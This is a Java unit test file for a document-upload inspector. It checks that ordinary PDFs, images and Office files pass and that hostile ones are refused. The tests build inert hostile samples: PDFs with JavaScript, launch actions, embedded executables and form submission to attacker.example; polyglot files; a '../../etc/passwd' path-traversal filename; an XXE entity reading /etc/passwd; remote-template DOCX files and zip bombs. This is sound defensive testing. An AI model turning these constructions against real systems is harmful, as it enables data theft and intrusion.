package jp.kochi.vrm.evidence;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.MessageFormat;
import java.time.Duration;
import java.util.Calendar;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.ResourceBundle;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.LongSupplier;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import jp.kochi.vrm.platform.BusinessRuleViolation;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionEmbeddedGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionImportData;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionRemoteGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The upload corpus: every accepted kind passes, every hostile or broken one is refused with its reason. */
class EvidenceInspectorTest {

    @TempDir
    static Path dir;

    private static Path write(String name, byte[] content) throws IOException {
        Path file = dir.resolve("staged-" + System.nanoTime());
        Files.write(file, content);
        return file;
    }

    private static String refusal(String name, byte[] content) throws IOException {
        Path file = write(name, content);
        return assertThrows(BusinessRuleViolation.class, () -> EvidenceInspector.inspect(file, name)).messageKey();
    }

    static Stream<Arguments> accepted() throws IOException {
        return Stream.of(
                Arguments.of("完了報告書.pdf", pdf(null), EvidenceInspector.PDF),
                Arguments.of("写真.PNG", image("png"), EvidenceInspector.PNG),
                Arguments.of("写真.jpeg", image("jpg"), EvidenceInspector.JPEG),
                Arguments.of("名簿.xlsx", office("xl/workbook.xml", false, 1000), EvidenceInspector.XLSX),
                Arguments.of("計画書.docx", office("word/document.xml", false, 1000), EvidenceInspector.DOCX),
                Arguments.of("従事者.csv", "氏名,所属\n高知 太郎,開発部\n".getBytes(StandardCharsets.UTF_8), EvidenceInspector.CSV),
                Arguments.of("メモ.txt", "報告します。\n".getBytes(StandardCharsets.UTF_8), EvidenceInspector.TEXT));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("accepted")
    void acceptedKinds(String name, byte[] content, String type) throws IOException {
        assertEquals(type, EvidenceInspector.inspect(write(name, content), name));
    }

    static Stream<Arguments> refused() throws IOException {
        byte[] exe = new byte[4096];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[2] = (byte) 0x90;
        byte[] pngWithZip = concat(image("png"), zip(Map.of("payload.js", "alert(1)".getBytes(StandardCharsets.UTF_8))));
        byte[] pdfWithHtml = concat("%PDF-1.4\n<html><script>alert(1)</script></html>\n".getBytes(StandardCharsets.ISO_8859_1),
                pdf(null));
        return Stream.of(
                Arguments.of("実行ファイル.pdf", exe, "evidence.typeNotAccepted"),
                Arguments.of("script.pdf", pdf(doc -> doc.getDocumentCatalog().setOpenAction(
                        new PDActionJavaScript("app.alert('x')"))), "evidence.pdfJavaScript"),
                Arguments.of("launch.pdf", pdf(doc -> {
                    PDActionLaunch launch = new PDActionLaunch();
                    launch.setFile(new PDComplexFileSpecification());
                    doc.getDocumentCatalog().setOpenAction(launch);
                }), "evidence.pdfLaunch"),
                Arguments.of("attached.pdf", pdf(EvidenceInspectorTest::embedFile), "evidence.pdfEmbeddedFile"),
                Arguments.of("locked.pdf", encryptedPdf("user"), "evidence.pdfEncrypted"),
                Arguments.of("owner-locked.pdf", encryptedPdf(""), "evidence.pdfEncrypted"),
                Arguments.of("polyglot.png", pngWithZip, "evidence.polyglot"),
                Arguments.of("polyglot.pdf", pdfWithHtml, "evidence.polyglot"),
                Arguments.of("report.png", pdf(null), "evidence.extensionMismatch"),
                Arguments.of("bomb.docx", office("word/document.xml", false, 60 * 1024 * 1024), "evidence.archiveTooLarge"),
                Arguments.of("macro.docx", office("word/document.xml", true, 1000), "evidence.officeMacros"),
                Arguments.of("archive.docx", zip(Map.of("a.txt", new byte[10])), "evidence.typeNotAccepted"),
                Arguments.of("../../etc/passwd.pdf", pdf(null), "evidence.nameInvalid"),
                Arguments.of("a".repeat(10_000) + ".pdf", pdf(null), "evidence.nameTooLong"),
                Arguments.of("名前に改行\n.pdf", pdf(null), "evidence.nameInvalid"),
                Arguments.of("拡張子なし", pdf(null), "evidence.nameNoExtension"),
                Arguments.of("壊れた.pdf", ("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
                        .getBytes(StandardCharsets.US_ASCII), "evidence.pdfUnreadable"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void refusedWithTheReason(String name, byte[] content, String key) throws IOException {
        assertEquals(key, refusal(name.length() > 60 ? name : name, content));
    }

    @Test
    void stagingCountsHashesAndStopsAtTheLimit() throws IOException {
        Path staging = dir.resolve("staging");
        byte[] content = "証跡".repeat(1000).getBytes(StandardCharsets.UTF_8);
        try (StagedFile staged = StagedFile.stage(new ByteArrayInputStream(content), staging, 10_000)) {
            assertEquals(content.length, staged.size());
            assertEquals(sha256(content), staged.sha256());
            assertTrue(Files.exists(staged.path()));
        }
        assertEquals("evidence.tooLarge", assertThrows(BusinessRuleViolation.class,
                () -> StagedFile.stage(endless(), staging, 1024 * 1024)).messageKey());
        assertEquals("evidence.empty", assertThrows(BusinessRuleViolation.class,
                () -> StagedFile.stage(new ByteArrayInputStream(new byte[0]), staging, 1024)).messageKey());
        try (Stream<Path> left = Files.list(staging)) {
            assertEquals(List.of(), left.toList(), "nothing is left behind");
        }
    }

    /** An upload that never ends: the limit, not the sender, stops it. */
    private static InputStream endless() {
        return new InputStream() {
            @Override
            public int read() {
                return 'x';
            }

            @Override
            public int read(byte[] b, int off, int len) {
                java.util.Arrays.fill(b, off, off + len, (byte) 'x');
                return len;
            }
        };
    }

    interface PdfChange {
        void apply(PDDocument doc) throws IOException;
    }

    static byte[] pdf(PdfChange change) throws IOException {
        try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            doc.addPage(new PDPage());
            if (change != null) {
                change.apply(doc);
            }
            doc.save(out);
            return out.toByteArray();
        }
    }

    private static void embedFile(PDDocument doc) throws IOException {
        PDEmbeddedFile embedded = new PDEmbeddedFile(doc, new ByteArrayInputStream("MZ".getBytes(StandardCharsets.US_ASCII)));
        embedded.setSubtype("application/octet-stream");
        embedded.setModDate(Calendar.getInstance());
        PDComplexFileSpecification spec = new PDComplexFileSpecification();
        spec.setFile("tool.exe");
        spec.setEmbeddedFile(embedded);
        PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
        tree.setNames(Map.of("tool.exe", spec));
        PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
        names.setEmbeddedFiles(tree);
        doc.getDocumentCatalog().setNames(names);
    }

    private static byte[] encryptedPdf(String userPassword) throws IOException {
        return pdf(doc -> {
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", userPassword, new AccessPermission());
            policy.setEncryptionKeyLength(128);
            doc.protect(policy);
        });
    }

    private static byte[] image(String format) throws IOException {
        BufferedImage img = new BufferedImage(16, 16, BufferedImage.TYPE_INT_RGB);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(img, format, out);
        return out.toByteArray();
    }

    private static byte[] office(String mainPart, boolean macros, int mainPartSize) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"
                    .getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("_rels/.rels"));
            zip.write("<?xml version=\"1.0\"?><Relationships/>".getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry(mainPart));
            byte[] chunk = new byte[64 * 1024];
            for (int written = 0; written < mainPartSize; written += chunk.length) {
                zip.write(chunk, 0, Math.min(chunk.length, mainPartSize - written));
            }
            if (macros) {
                zip.putNextEntry(new ZipEntry(mainPart.substring(0, mainPart.indexOf('/')) + "/vbaProject.bin"));
                zip.write(new byte[100]);
            }
        }
        return out.toByteArray();
    }

    private static byte[] zip(Map<String, byte[]> entries) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> e : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue());
            }
        }
        return out.toByteArray();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] c = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, c, a.length, b.length);
        return c;
    }

    static String sha256(byte[] content) {
        try {
            return java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256").digest(content));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    // --- active content and bounds (issue 25) ------------------------------------------------------------------

    /** What a Japanese user reads for the refusal: the messages bundle's text, formatted as the pages format it. */
    private static String shownRefusal(String name, byte[] content) throws IOException {
        Path file = write(name, content);
        return shown(assertThrows(BusinessRuleViolation.class, () -> EvidenceInspector.inspect(file, name)));
    }

    private static String shown(BusinessRuleViolation refused) {
        String key = refused.messageKey();
        assertTrue(ResourceBundle.getBundle("i18n.messages", Locale.ENGLISH).containsKey(key), "English text for " + key);
        String pattern = ResourceBundle.getBundle("i18n.messages", Locale.JAPANESE).getString(key);
        Object[] arguments = refused.arguments();
        return arguments.length == 0 ? pattern : new MessageFormat(pattern, Locale.JAPANESE).format(arguments);
    }

    private static final String PDF_XFA = "XFAフォーム（スクリプトを実行できる入力フォーム）を含むPDFは登録できません。";
    private static final String PDF_SUBMIT = "入力内容を外部に送信する動作（SubmitForm）を含むPDFは登録できません。";
    private static final String PDF_IMPORT = "外部のファイルからデータを読み込む動作（ImportData）を含むPDFは登録できません。";
    private static final String PDF_OTHER_FILE = "別のファイルを開く動作（GoToR・GoToE）を含むPDFは登録できません。";
    private static final String PDF_AUTOMATIC_URI = "開いたときなどに自動でWebページ等を開く動作（URI）を含むPDFは登録できません。"
            + "本文中のクリックして開くリンクは問題ありません。";
    private static final String PDF_MULTIMEDIA = "動画・音声・3Dなどのマルチメディア（RichMedia・3D・Screen・Movie・Sound）を含むPDFは登録できません。";
    private static final String OFFICE_EXTERNAL = "外部のファイルやWebページを自動で読み込む参照（外部テンプレート・他のブックへのリンク・"
            + "リンクされた画像やオブジェクトなど）を含むOfficeファイルは登録できません。通常のハイパーリンクは問題ありません。";
    private static final String OFFICE_EMBEDDED = "埋め込みオブジェクト（OLE・埋め込まれたファイルやグラフのデータ）を含むOfficeファイルは"
            + "登録できません。図として貼り付けるか、PDFに変換して登録してください。";
    private static final String OFFICE_ACTIVEX = "ActiveXコントロールを含むOfficeファイルは登録できません。";
    private static final String OFFICE_TOO_LARGE = "Officeファイルの展開後のサイズまたは項目数が上限を超えています（圧縮爆弾の可能性）。";

    @Test
    void refusesPdfWithXfaForm() throws IOException {
        byte[] content = pdf(doc -> {
            PDAcroForm form = new PDAcroForm(doc);
            COSStream xfa = doc.getDocument().createCOSStream();
            try (OutputStream out = xfa.createOutputStream()) {
                out.write("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>".getBytes(StandardCharsets.UTF_8));
            }
            form.getCOSObject().setItem(COSName.XFA, xfa);
            doc.getDocumentCatalog().setAcroForm(form);
        });
        assertEquals(PDF_XFA, shownRefusal("申請書.pdf", content));
    }

    @Test
    void refusesPdfWithButtonThatSubmitsTheForm() throws IOException {
        byte[] content = pdf(doc -> {
            PDActionSubmitForm submit = new PDActionSubmitForm();
            submit.setFile(new PDSimpleFileSpecification(new COSString("https://attacker.example/collect")));
            PDAnnotationLink button = new PDAnnotationLink();
            button.setRectangle(new PDRectangle(10, 10, 100, 20));
            button.setAction(submit);
            doc.getPage(0).getAnnotations().add(button);
        });
        assertEquals(PDF_SUBMIT, shownRefusal("送信.pdf", content));
    }

    @Test
    void refusesPdfThatImportsDataWhenAPageOpens() throws IOException {
        byte[] content = pdf(doc -> {
            PDActionImportData importData = new PDActionImportData();
            importData.setFile(new PDSimpleFileSpecification(new COSString("\\\\server\\share\\data.fdf")));
            PDPageAdditionalActions actions = new PDPageAdditionalActions();
            actions.setO(importData);
            doc.getPage(0).setActions(actions);
        });
        assertEquals(PDF_IMPORT, shownRefusal("取込.pdf", content));
    }

    @Test
    void refusesPdfWithLinkThatOpensAnotherFile() throws IOException {
        byte[] content = pdf(doc -> {
            PDActionRemoteGoTo goToR = new PDActionRemoteGoTo();
            goToR.setFile(new PDSimpleFileSpecification(new COSString("\\\\server\\share\\other.pdf")));
            goToR.setD(COSInteger.ZERO);
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(10, 10, 100, 20));
            link.setAction(goToR);
            doc.getPage(0).getAnnotations().add(link);
        });
        assertEquals(PDF_OTHER_FILE, shownRefusal("別ファイル.pdf", content));
    }

    @Test
    void refusesPdfWithBookmarkThatOpensAnotherFile() throws IOException {
        byte[] content = pdf(doc -> {
            PDActionRemoteGoTo goToR = new PDActionRemoteGoTo();
            goToR.setFile(new PDSimpleFileSpecification(new COSString("file:///C:/Users/Public/other.pdf")));
            goToR.setD(COSInteger.ZERO);
            PDOutlineItem bookmark = new PDOutlineItem();
            bookmark.setTitle("別紙");
            bookmark.setAction(goToR);
            PDDocumentOutline outline = new PDDocumentOutline();
            outline.addLast(bookmark);
            doc.getDocumentCatalog().setDocumentOutline(outline);
        });
        assertEquals(PDF_OTHER_FILE, shownRefusal("しおり.pdf", content));
    }

    @Test
    void refusesPdfThatOpensAnEmbeddedDocumentOnOpen() throws IOException {
        byte[] content = pdf(doc -> {
            PDActionEmbeddedGoTo goToE = new PDActionEmbeddedGoTo();
            goToE.getCOSObject().setItem(COSName.D, COSInteger.ZERO);
            doc.getDocumentCatalog().setOpenAction(goToE);
        });
        assertEquals(PDF_OTHER_FILE, shownRefusal("埋め込み.pdf", content));
    }

    @Test
    void refusesPdfThatOpensAWebPageOnOpen() throws IOException {
        byte[] content = pdf(doc -> doc.getDocumentCatalog().setOpenAction(uri("https://attacker.example/opened")));
        assertEquals(PDF_AUTOMATIC_URI, shownRefusal("自動.pdf", content));
    }

    @Test
    void refusesPdfThatOpensAWebPageAfterItsOpenAction() throws IOException {
        byte[] content = pdf(doc -> {
            PDActionGoTo goTo = new PDActionGoTo();
            PDPageFitDestination first = new PDPageFitDestination();
            first.setPage(doc.getPage(0));
            goTo.setDestination(first);
            goTo.setNext(List.of(uri("https://attacker.example/next")));
            doc.getDocumentCatalog().setOpenAction(goTo);
        });
        assertEquals(PDF_AUTOMATIC_URI, shownRefusal("連鎖.pdf", content));
    }

    @Test
    void refusesPdfThatOpensAWebPageWhenAPageOpens() throws IOException {
        byte[] content = pdf(doc -> {
            PDPageAdditionalActions actions = new PDPageAdditionalActions();
            actions.setO(uri("https://attacker.example/page"));
            doc.getPage(0).setActions(actions);
        });
        assertEquals(PDF_AUTOMATIC_URI, shownRefusal("ページ.pdf", content));
    }

    @Test
    void refusesPdfWithLinkThatOpensAWebPageWhenThePointerPassesOver() throws IOException {
        byte[] content = pdf(doc -> {
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(0, 0, 612, 792));
            COSDictionary triggers = new COSDictionary();
            triggers.setItem(COSName.E, uri("https://attacker.example/hover"));
            link.getCOSObject().setItem(COSName.AA, triggers);
            doc.getPage(0).getAnnotations().add(link);
        });
        assertEquals(PDF_AUTOMATIC_URI, shownRefusal("マウス.pdf", content));
    }

    @Test
    void acceptsPdfWithOrdinaryWebLink() throws IOException {
        byte[] content = pdf(doc -> {
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(10, 10, 100, 20));
            link.setAction(uri("https://www.city.kochi.kochi.jp/"));
            doc.getPage(0).getAnnotations().add(link);
        });
        assertEquals(EvidenceInspector.PDF, EvidenceInspector.inspect(write("リンク.pdf", content), "リンク.pdf"));
    }

    @Test
    void acceptsPdfWithBookmarkToAWebPage() throws IOException {
        byte[] content = pdf(doc -> {
            PDOutlineItem bookmark = new PDOutlineItem();
            bookmark.setTitle("参考");
            bookmark.setAction(uri("https://www.city.kochi.kochi.jp/"));
            PDDocumentOutline outline = new PDDocumentOutline();
            outline.addLast(bookmark);
            doc.getDocumentCatalog().setDocumentOutline(outline);
        });
        assertEquals(EvidenceInspector.PDF, EvidenceInspector.inspect(write("しおりリンク.pdf", content), "しおりリンク.pdf"));
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"RichMedia", "3D", "Screen", "Movie", "Sound"})
    void refusesPdfWithMultimediaAnnotation(String subtype) throws IOException {
        byte[] content = pdf(doc -> {
            COSDictionary annotation = new COSDictionary();
            annotation.setItem(COSName.TYPE, COSName.ANNOT);
            annotation.setItem(COSName.SUBTYPE, COSName.getPDFName(subtype));
            annotation.setItem(COSName.RECT, new PDRectangle(10, 10, 100, 100).getCOSArray());
            COSArray annotations = new COSArray();
            annotations.add(annotation);
            doc.getPage(0).getCOSObject().setItem(COSName.ANNOTS, annotations);
        });
        assertEquals(PDF_MULTIMEDIA, shownRefusal("動画.pdf", content));
    }

    @Test
    void refusesPdfWithTooManyObjects() throws IOException {
        byte[] content = pdf(doc -> {
            COSArray tiny = new COSArray();
            for (int i = 0; i <= EvidenceInspector.MAX_PDF_OBJECTS; i++) {
                COSDictionary object = new COSDictionary();
                object.setDirect(false);
                tiny.add(object);
            }
            doc.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Filler"), tiny);
        });
        assertTrue(content.length < 3 * 1024 * 1024, "a few MB: " + content.length);
        assertEquals("PDFを構成するオブジェクトが多すぎるため、安全を確認できません（100,000個まで）。"
                + "印刷機能で「PDFとして保存」し直すなど、構造を簡単にしたPDFを登録してください。", shownRefusal("細かい.pdf", content));
    }

    @Test
    void refusesPdfWithTooManyDictionariesAndArraysInsideItsObjects() throws IOException {
        byte[] content = pdf(doc -> {
            COSArray tiny = new COSArray();
            for (int i = 0; i <= EvidenceInspector.MAX_PDF_STRUCTURES; i++) {
                tiny.add(new COSArray());
            }
            doc.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Filler"), tiny);
        });
        assertTrue(content.length < 3 * 1024 * 1024, "a few MB: " + content.length);
        assertEquals("PDFを構成するオブジェクトが多すぎるため、安全を確認できません（500,000個まで）。"
                + "印刷機能で「PDFとして保存」し直すなど、構造を簡単にしたPDFを登録してください。", shownRefusal("入れ子.pdf", content));
    }

    @Test
    void refusesPdfWhoseCheckDoesNotFinishInTime() throws IOException {
        Path file = write("時間.pdf", pdf(null));
        AtomicLong nanoTime = new AtomicLong();
        LongSupplier elevenSecondsPerReading = () -> nanoTime.getAndAdd(Duration.ofSeconds(11).toNanos());
        assertEquals("PDFの安全確認が10秒以内に終わらなかったため、登録できません。"
                + "印刷機能で「PDFとして保存」し直すなど、構造を簡単にしたPDFを登録してください。",
                shown(assertThrows(BusinessRuleViolation.class, () -> EvidenceInspector.checkPdf(file, elevenSecondsPerReading))));
    }

    private static PDActionURI uri(String address) {
        PDActionURI uri = new PDActionURI();
        uri.setURI(address);
        return uri;
    }

    private static final String RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    @Test
    void refusesDocxWithRemoteAttachedTemplate() throws IOException {
        byte[] content = docx(Map.of(
                "word/settings.xml", "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>",
                "word/_rels/settings.xml.rels", relationships(relationship("attachedTemplate",
                        "https://attacker.example/template.dotm", true))));
        assertEquals(OFFICE_EXTERNAL, shownRefusal("計画書.docx", content));
    }

    @Test
    void refusesXlsxLinkedToAnotherWorkbook() throws IOException {
        byte[] content = ooxml("xl/workbook.xml", Map.of(
                "xl/externalLinks/externalLink1.xml", "<externalLink/>",
                "xl/externalLinks/_rels/externalLink1.xml.rels", relationships(relationship("externalLinkPath",
                        "file:///\\\\server\\share\\台帳.xlsx", true))));
        assertEquals(OFFICE_EXTERNAL, shownRefusal("名簿.xlsx", content));
    }

    @Test
    void refusesDocxWithRemoteImage() throws IOException {
        byte[] content = docx(Map.of("word/_rels/document.xml.rels",
                relationships(relationship("image", "https://attacker.example/pixel.png", true))));
        assertEquals(OFFICE_EXTERNAL, shownRefusal("画像.docx", content));
    }

    @Test
    void refusesDocxWithLinkedOleObject() throws IOException {
        byte[] content = docx(Map.of("word/_rels/document.xml.rels",
                relationships(relationship("oleObject", "\\\\server\\share\\sheet.xlsx", true))));
        assertEquals(OFFICE_EXTERNAL, shownRefusal("リンク.docx", content));
    }

    @Test
    void acceptsDocxWithOrdinaryHyperlink() throws IOException {
        byte[] content = docx(Map.of("word/_rels/document.xml.rels", relationships(
                relationship("hyperlink", "https://www.city.kochi.kochi.jp/", true)
                + relationship("styles", "styles.xml", false))));
        assertEquals(EvidenceInspector.DOCX, EvidenceInspector.inspect(write("報告.docx", content), "報告.docx"));
    }

    @Test
    void refusesDocxWithEmbeddedOleObject() throws IOException {
        byte[] content = docx(Map.of(
                "word/embeddings/oleObject1.bin", "MZ",
                "word/_rels/document.xml.rels", relationships(relationship("oleObject", "embeddings/oleObject1.bin", false))));
        assertEquals(OFFICE_EMBEDDED, shownRefusal("埋め込み.docx", content));
    }

    @Test
    void refusesDocxWithEmbeddedPackage() throws IOException {
        byte[] content = docx(Map.of("word/_rels/document.xml.rels",
                relationships(relationship("package", "media/tool.docm", false))));
        assertEquals(OFFICE_EMBEDDED, shownRefusal("パッケージ.docx", content));
    }

    @Test
    void refusesDocxWithFileUnderEmbeddings() throws IOException {
        byte[] content = docx(Map.of("Word/Embeddings/tool.exe", "MZ"));
        assertEquals(OFFICE_EMBEDDED, shownRefusal("ファイル.docx", content));
    }

    @Test
    void refusesDocxWithActiveXControl() throws IOException {
        byte[] content = docx(Map.of(
                "word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>",
                "word/_rels/document.xml.rels", relationships(relationship("control", "activeX/activeX1.xml", false))));
        assertEquals(OFFICE_ACTIVEX, shownRefusal("コントロール.docx", content));
    }

    @Test
    void refusesXlsxWithControlRelationship() throws IOException {
        byte[] content = ooxml("xl/workbook.xml", Map.of("xl/worksheets/_rels/sheet1.xml.rels",
                relationships(relationship("control", "../ctrl/control1.xml", false))));
        assertEquals(OFFICE_ACTIVEX, shownRefusal("名簿.xlsx", content));
    }

    @Test
    void refusesDocxWhoseRelationshipsDeclareADocumentType() throws IOException {
        byte[] content = docx(Map.of("word/_rels/document.xml.rels", "<?xml version=\"1.0\"?>"
                + "<!DOCTYPE Relationships [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">&x;</Relationships>"));
        assertEquals("Officeファイルの構造が正しくありません。", shownRefusal("型宣言.docx", content));
    }

    @Test
    void refusesDocxWithOversizedRelationshipPart() throws IOException {
        Random random = new Random(25);
        StringBuilder noise = new StringBuilder();
        while (noise.length() <= EvidenceInspector.MAX_OOXML_RELATIONSHIPS_PART) {
            noise.append((char) ('a' + random.nextInt(26)));
        }
        String padding = "<!--" + noise + "-->";
        byte[] content = docx(Map.of("word/_rels/document.xml.rels", relationships(padding)));
        assertEquals(OFFICE_TOO_LARGE, shownRefusal("巨大.docx", content));
    }

    @Test
    void refusesDocxWithTooManyEntries() throws IOException {
        Map<String, String> parts = new HashMap<>();
        for (int i = 0; i < EvidenceInspector.MAX_ZIP_ENTRIES; i++) {
            parts.put("word/media/image" + i + ".png", "");
        }
        assertEquals(OFFICE_TOO_LARGE, shownRefusal("大量.docx", docx(parts)));
    }

    private static String relationships(String content) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" + content
                + "</Relationships>";
    }

    private static int relationshipIds;

    private static String relationship(String type, String target, boolean external) {
        return "<Relationship Id=\"rId" + ++relationshipIds + "\" Type=\"" + RELATIONSHIPS + type + "\" Target=\""
                + target.replace("&", "&amp;") + "\"" + (external ? " TargetMode=\"External\"" : "") + "/>";
    }

    private static byte[] docx(Map<String, String> parts) throws IOException {
        return ooxml("word/document.xml", parts);
    }

    /** A minimal Office package: content types, package relationships, the main part, then the given parts. */
    private static byte[] ooxml(String mainPart, Map<String, String> parts) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"
                    .getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("_rels/.rels"));
            zip.write(relationships(relationship("officeDocument", mainPart, false)).getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry(mainPart));
            zip.write("<document/>".getBytes(StandardCharsets.UTF_8));
            for (Map.Entry<String, String> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
            }
        }
        return out.toByteArray();
    }
}
